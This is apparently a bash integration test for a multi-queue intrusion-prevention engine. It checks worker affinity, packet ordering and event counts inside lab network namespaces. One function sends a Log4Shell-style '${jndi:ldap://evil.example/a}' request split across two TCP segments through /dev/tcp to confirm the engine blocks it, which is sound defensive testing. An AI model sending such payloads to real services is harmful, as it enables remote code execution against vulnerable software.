#!/usr/bin/env bash
# Eight queues with a worker each, and the two directions of a flow on any of them: every flow has one worker all the
# same, sees both of its directions there, and keeps its order.
set -euo pipefail
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"

queues=8
connections=150
attacks=12

write_config() {
    engine_write_config "$dir/weir.toml" "$dir/eve.json" drop
    # A loaded machine must not look like a lost engine.
    printf '%s\n' "heartbeat_timeout_ms = 60000" "frames_per_queue = 2048" |
        sed -i '/^on_engine_loss/r /dev/stdin' "$dir/weir.toml"
    printf '%s\n' "[flows]" "max = 4096" >>"$dir/weir.toml"
}

# Datagrams over many flows. The program is the debug one, as what it measures is no speed.
ordered() {
    section "numbered datagrams, both ways"
    local host
    # While a neighbour is asked for, its datagrams wait, and may leave behind later ones.
    for host in "$server_v4" "[$server_v6]"; do
        fetch "$dir/got" "http://$host/ready"
        check_equal "$host is known to the client" "$curl_exit" 0
    done
    (cd "$root" && cargo build --quiet --locked -p tests --bin ordered)
    local program=${CARGO_TARGET_DIR:-$root/target}/debug/ordered _
    : >"$dir/answer.log"
    nsenter --net="$(lab_netns server)" "$program" answer "$server_v4" "$server_v6" >"$dir/answer.log" 2>&1 &
    lab_children+=($!)
    for _ in {1..100}; do
        ! grep -q ready "$dir/answer.log" || break
        sleep 0.1
    done
    local code=0 told
    told=$(in_ns client "$program" ask "$server_v4" "$server_v6") || code=$?
    echo "$told"
    check_equal "all arrive, in order" "$code" 0
    datagrams=$(jq '.asked / .flows' <<<"$told")
}

# Each a connection of its own, eight at a time.
connect() {
    section "connections"
    local host
    for host in "$server_v4" "[$server_v6]"; do
        seq "$connections" | in_ns client xargs -P 8 -I{} curl -qgs --noproxy '*' --max-time 60 \
            -o "$dir/got-{}" "http://$host/page.txt?n={}" || true
        local same=0 number
        for number in $(seq "$connections"); do
            ! cmp -s "$dir/got-$number" "$dir/site/pages/page.txt" || same=$((same + 1))
            rm -f "$dir/got-$number"
        done
        check_equal "every page arrives whole from $host" "$same" "$connections"
    done
}

# An attack whose two halves are segments of their own; says nothing if it is cut before an answer.
attack_in_halves() {
    # shellcheck disable=SC2016 # The inner shell expands it.
    in_ns client timeout 20 bash -c '
        exec 3<>"/dev/tcp/$0/80"
        printf "%s" "GET /?x=\${jndi:ld" >&3
        sleep 0.05
        printf "%s\r\nHost: site\r\nConnection: close\r\n\r\n" "ap://evil.example/a} HTTP/1.1" >&3
        cat <&3' "$1" 2>/dev/null || true
}

attack() {
    section "attacks"
    local host number answers=0 leaks=0
    for number in $(seq "$attacks"); do
        for host in "$server_v4" "$server_v6"; do
            [[ -z $(attack_in_halves "$host") ]] || answers=$((answers + 1))
        done
        for host in "$server_v4" "[$server_v6]"; do
            fetch "$dir/got" "http://$host/leak.txt"
            [[ $curl_exit -eq 56 ]] || leaks=$((leaks + 1))
            ! grep -q "$card" "$dir/got" || leaks=$((leaks + 1))
        done
    done
    check_equal "none in two segments has an answer" "$answers" 0
    check_equal "none reached the server" "$(site_saw evil.example)" 0
    check_equal "no number leaks, wherever its segments came in" "$leaks" 0
}

# flows FILTER: all flow events of TCP and UDP that the jq filter chooses, as one array.
flows() { jq -c 'select(.event_type == "flow" and (.proto == "TCP" or .proto == "UDP"))' "$dir/eve.json" | jq -cs "$1"; }

count() { flows "map(select($1)) | length"; }

stats() { jq -c 'select(.event_type == "stats") | .stats' "$dir/eve.json" | tail -n1 | jq "$1"; }

books() {
    section "what the engine told"
    local twice workers
    twice=$(flows 'group_by([.proto, .src_ip, .src_port, .dest_ip, .dest_port]) | map(select(length > 1)) | length')
    check_equal "no flow was told of twice" "$twice" 0
    twice=$(flows '[.[] | [.proto] + ([[.src_ip, .src_port], [.dest_ip, .dest_port]] | sort)] | group_by(.)
        | map(select(length > 1)) | length')
    check_equal "nor once from each of its ends" "$twice" 0
    check_equal "each has frames of both directions" \
        "$(count '.flow.pkts_toserver == 0 or .flow.pkts_toclient == 0')" 0
    check_equal "each of datagrams has all of them" \
        "$(count ".proto == \"UDP\" and .dest_port >= 20000 and .dest_port < 20150 and
            .flow.pkts_toserver == $datagrams and .flow.pkts_toclient == $datagrams")" 300
    check_equal "each connection is one" \
        "$(count '.proto == "TCP" and .dest_port == 80')" $((2 * connections + 4 * attacks + 2))
    check_equal "each attack has one alert" \
        "$(jq -c 'select(.event_type == "alert")' "$dir/eve.json" | wc -l)" $((4 * attacks))
    # The worker stands in bits 40 to 51 of what it names (dropping low bits, as jq does, leaves them).
    workers=$(jq -cs --argjson queues "$queues" 'map(select(.flow_id != null and (.proto == "TCP" or .proto == "UDP"))
        | {flow: ([.proto] + ([[.src_ip, .src_port], [.dest_ip, .dest_port]] | sort)),
           worker: ((.flow_id / 1099511627776 | floor) % 4096)})
        | {of_two: (group_by(.flow) | map(map(.worker) | unique | length) | map(select(. != 1)) | length),
           all: (map(.worker) | unique)}' "$dir/eve.json")
    check_equal "all events of a flow come from one worker" "$(jq .of_two <<<"$workers")" 0
    check_equal "all workers have flows" "$(jq -c .all <<<"$workers")" "[0,1,2,3,4,5,6,7]"
    local lent frames
    lent=$(stats ".lent.\"$lab_prefix\" // 0") frames=$(stats .decoder.pkts)
    echo "$lent of $frames frames were judged by another worker than the one that received them"
    check "that is more than every second" test $((2 * lent)) -gt "$frames"
    check_equal "the books balance" "$(stats .ips.unaccounted)" 0
    check_equal "no frame found its owner behind" "$(stats .ips.drop_reason.owner_behind)" 0
    check_not "no alarm was raised" grep -q ALARM "$dir/engine.log"
    check_not "no worker was waited for" grep -q hangs "$dir/engine.log"
}

if obstacle=$(lab_obstacle); then skip case-queues "$obstacle"; fi
lab_open queues
lab_queues=$queues
lab_up "weir-queues-$$"
lab_mount_bpffs
site_up "$dir/site"
text_of 5000 >"$dir/site/pages/page.txt"
page_with 20000 "$card" >"$dir/site/pages/leak.txt"
write_config
lab_start_engine case-queues
datagrams=0
ordered
connect
attack
engine_end TERM
check_equal "the engine ends cleanly" "$engine_exit" 0
books
checks_close
